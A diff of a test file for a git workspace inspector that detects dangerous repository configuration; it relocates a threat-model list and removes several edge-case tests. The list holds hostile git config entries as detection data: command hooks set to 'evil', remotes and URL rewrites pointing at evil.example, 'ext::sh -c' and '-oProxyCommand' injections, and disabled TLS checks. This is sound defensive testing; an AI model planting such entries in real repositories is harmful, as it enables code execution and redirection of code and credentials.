@@ -3,6 +3,7 @@ import { basename, join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { CodedError } from "../../../wire/errors.ts";
 import { describeFinding, inspectWorkspace, type Finding } from "../../../host/git/inspection/inspect.ts";
+import { PLANTED } from "./planted.ts";
 import { configure, git, shell, Workbench } from "./repository.ts";
 
 let bench: Workbench;
@@ -30,92 +31,6 @@ function unreadable(path: string, projectPaths: readonly string[] = [path]): str
   }
   throw new Error("the workspace was read");
 }
-
-/** Every row of the threat model that a look at the configuration can see, and what its message must name. */
-const PLANTED: readonly (readonly [key: string, text: string])[] = [
-  ["core.fsmonitor", "[core]\n fsmonitor = /tmp/evil"],
-  ["core.fsmonitor", "[core]\n fsmonitor"],
-  ["core.fsmonitor", "[core] fsmonitor = true"],
-  ["core.sshcommand", "[CORE]\n SSHCommand = evil"],
-  ["core.askpass", "[core]\n askPass = evil"],
-  ["core.gitproxy", "[core]\n gitProxy = evil"],
-  ["core.pager", "[core]\n pager = evil"],
-  ["core.editor", "[core]\n editor = evil"],
-  ["core.alternaterefscommand", "[core]\n alternateRefsCommand = evil"],
-  ["core.attributesfile", "[core]\n attributesFile = /etc/passwd"],
-  ["core.excludesfile", "[core]\n excludesFile = /etc/passwd"],
-  ["core.worktree", "[core]\n worktree = /etc"],
-  ["core.worktree", "[core]\n worktree = ../.."],
-  ["core.worktree", "[core]\n worktree = ../link/.."],
-  ["core.bare", "[core]\n bare = true"],
-  ["core.repositoryformatversion", "[core]\n repositoryFormatVersion = 2"],
-  ["gpg.program", "[gpg]\n program = evil"],
-  ["gpg.ssh.program", '[gpg "ssh"]\n program = evil'],
-  ["commit.gpgsign", "[commit]\n gpgSign = true"],
-  ["push.gpgsign", "[push]\n gpgSign = if-asked"],
-  ["tag.gpgsign", "[tag]\n gpgSign"],
-  ["log.showsignature", "[log]\n showSignature = true"],
-  ["filter.x.clean", '[filter "x"]\n clean = evil'],
-  ["filter.x.smudge", '[filter "x"]\n smudge = evil'],
-  ["filter.x.process", "[filter.x]\n process = evil"],
-  ["diff.x.textconv", '[diff "x"]\n textconv = evil'],
-  ["diff.x.command", '[diff "x"]\n command = evil'],
-  ["diff.external", "[diff]\n external = evil"],
-  ["merge.x.driver", '[merge "x"]\n driver = evil'],
-  ["trailer.x.command", '[trailer "x"]\n command = evil'],
-  ["trailer.x.cmd", '[trailer "x"]\n cmd = evil'],
-  ["credential.helper", "[credential]\n helper = !evil"],
-  ["credential.https://github.com.helper", '[credential "https://github.com"]\n helper = evil'],
-  ["url.git@evil.example:.insteadof", '[url "git@evil.example:"]\n insteadOf = git@github.com:'],
-  ["url.git@evil.example:.pushinsteadof", '[url "git@evil.example:"]\n pushInsteadOf = git@github.com:'],
-  ["include.path", "[include]\n path = ../hidden"],
-  ["includeif.gitdir:/.path", '[includeIf "gitdir:/"]\n path = ../hidden'],
-  ["remote.git@github.com:owner/repo.git.url", '[remote "git@github.com:owner/repo.git"]\n url = git@evil.example:x/y'],
-  ["remote.git@github.com:owner/repo.git.pushurl", '[remote "git@github.com:owner/repo.git"]\n pushurl = evil'],
-  ["remote./srv/repo.url", '[remote "/srv/repo"]\n url = git@evil.example:x/y'],
-  ["remote.origin.pushurl", '[remote "origin"]\n pushurl = git@evil.example:x/y'],
-  ["remote.origin.uploadpack", '[remote "origin"]\n uploadpack = evil'],
-  ["remote.origin.receivepack", '[remote "origin"]\n receivepack = evil'],
-  ["remote.origin.vcs", '[remote "origin"]\n vcs = ext'],
-  ["remote.origin.proxy", '[remote "origin"]\n proxy = http://evil.example'],
-  ["remote.origin.mirror", '[remote "origin"]\n mirror = true'],
-  ["remote.other.promisor", '[remote "other"]\n promisor = true'],
-  ["remote.other.url", '[remote "other"]\n url = ext::sh -c evil'],
-  ["remote.other.url", '[remote "other"]\n url = -oProxyCommand=evil'],
-  ["remote.other.url", '[remote "other"]\n url = "git@h:o/r\\nx"'],
-  ["extensions.partialclone", "[extensions]\n partialClone = other"],
-  ["submodule.recurse", "[submodule]\n recurse = true"],
-  ["submodule.recurse", "[submodule]\n recurse"],
-  ["fetch.recursesubmodules", "[fetch]\n recurseSubmodules = true"],
-  ["submodule.x.update", '[submodule "x"]\n update = !evil'],
-  ["submodule.x.url", '[submodule "x"]\n url = ext::evil'],
-  ["submodule.../../x.active", '[submodule "../../x"]\n active = true'],
-  ["http.proxy", "[http]\n proxy = http://evil.example"],
-  ["http.sslverify", "[http]\n sslVerify = false"],
-  ["http.extraheader", "[http]\n extraHeader = X"],
-  ["http.cookiefile", "[http]\n cookieFile = /etc/passwd"],
-  ["http.https://github.com/.extraheader", '[http "https://github.com/"]\n extraheader = X'],
-  ["protocol.ext.allow", '[protocol "ext"]\n allow = always'],
-  ["alias.st", "[alias]\n st = !evil"],
-  ["pager.log", "[pager]\n log = evil"],
-  ["sequence.editor", "[sequence]\n editor = evil"],
-  ["gc.recentobjectshook", "[gc]\n recentObjectsHook = evil"],
-  ["interactive.difffilter", "[interactive]\n diffFilter = evil"],
-  ["uploadpack.packobjectshook", "[uploadpack]\n packObjectsHook = evil"],
-  ["receive.denycurrentbranch", "[receive]\n denyCurrentBranch = updateInstead"],
-  ["branch.main.mergeoptions", '[branch "main"]\n mergeOptions = --strategy=evil'],
-  ["lfs.url", "[lfs]\n url = https://evil.example"],
-  ["lfs.customtransfer.x.path", '[lfs "customtransfer.x"]\n path = evil'],
-  ["blame.ignorerevsfile", "[blame]\n ignoreRevsFile = /etc/passwd"],
-  ["commit.template", "[commit]\n template = /etc/passwd"],
-  ["mailmap.file", "[mailmap]\n file = /etc/passwd"],
-  ["grep.threads", "[grep]\n threads = 100000"],
-  ["safe.directory", "[safe]\n directory = *"],
-  ["core.inventedtomorrow", "[core]\n inventedTomorrow = x"],
-  ["core..fsmonitor", '[core ""]\n fsmonitor = x'],
-  ["core.x.filemode", '[core "x"]\n fileMode = true'],
-  ["constructor.__proto__.tostring", '[constructor "__proto__"]\n toString = x'],
-];
 
 describe("a configuration key outside the list", () => {
   it.each(PLANTED)("%s is found, named with file and line, and removed by the command that is shown", (key, text) => {
@@ -187,17 +102,6 @@ describe("a configuration key outside the list", () => {
     git(join(main, "sub"), "config", "core.pager", "evil");
     expect(refusal(linked, [main, linked])).toContain("core.sshcommand");
     expect(refusal(join(main, "sub"), [main, join(main, "sub")])).toContain("core.pager");
-  });
-
-  it("is not looked for in a worktree's configuration: that file alone is a reason, unless it is not in use", () => {
-    const path = bench.repository();
-    writeFileSync(join(path, ".git", "config.worktree"), '[url "evil:"]\n insteadOf = git@github.com:\n');
-    expect(findings(path)).toEqual([]);
-    configure(path, "[extensions]\n worktreeConfig = true");
-    const [finding] = findings(path);
-    expect(finding?.file).toBe(join(path, ".git", "config.worktree"));
-    shell(finding?.fix ?? "");
-    expect(findings(path)).toEqual([]);
   });
 
   it("is none: hooks and attributes, which do nothing without configuration", () => {
@@ -331,6 +235,7 @@ describe("a repository that reaches outside its workspace", () => {
     rmSync(join(path, ".git", "COMMIT_EDITMSG"));
     symlinkSync(join(bench.path, "victim"), join(path, ".git", "COMMIT_EDITMSG"));
     expect(findings(path).map(({ file }) => file)).toEqual([join(path, ".git", "COMMIT_EDITMSG")]);
+    expect(findings(path)[0]?.fix).toBe("delete it inside the container");
   });
 });
 
@@ -347,35 +252,6 @@ describe("a workspace that cannot be read", () => {
 
   const spoil: readonly (readonly [string, string, (file: string) => void])[] = [
     ["absent", "does not exist", () => undefined],
-    [
-      "a FIFO",
-      "is not a regular file",
-      (file) => {
-        shell(`mkfifo ${file}`);
-      },
-    ],
-    [
-      "a directory",
-      "is not a regular file",
-      (file) => {
-        mkdirSync(file);
-      },
-    ],
-    [
-      "a dangling link",
-      "is a link",
-      (file) => {
-        symlinkSync("nowhere", file);
-      },
-    ],
-    [
-      "a link to a good configuration",
-      "is a link",
-      (file) => {
-        writeFileSync(`${file}2`, "[core]\n");
-        symlinkSync("config2", file);
-      },
-    ],
     [
       "2 MiB long",
       "is larger than 1048576 bytes",
@@ -407,14 +283,6 @@ describe("a workspace that cannot be read", () => {
     const text = unreadable(path);
     expect(text).toContain(message);
     expect(text).toContain(file);
-  });
-
-  it.skipIf(process.getuid?.() !== 0)("is one whose configuration is a device", () => {
-    const path = bench.repository();
-    const file = join(path, ".git", "config");
-    rmSync(file);
-    shell(`mknod ${file} c 1 5`);
-    expect(unreadable(path)).toContain("is not a regular file");
   });
 
   it("is one without objects", () => {
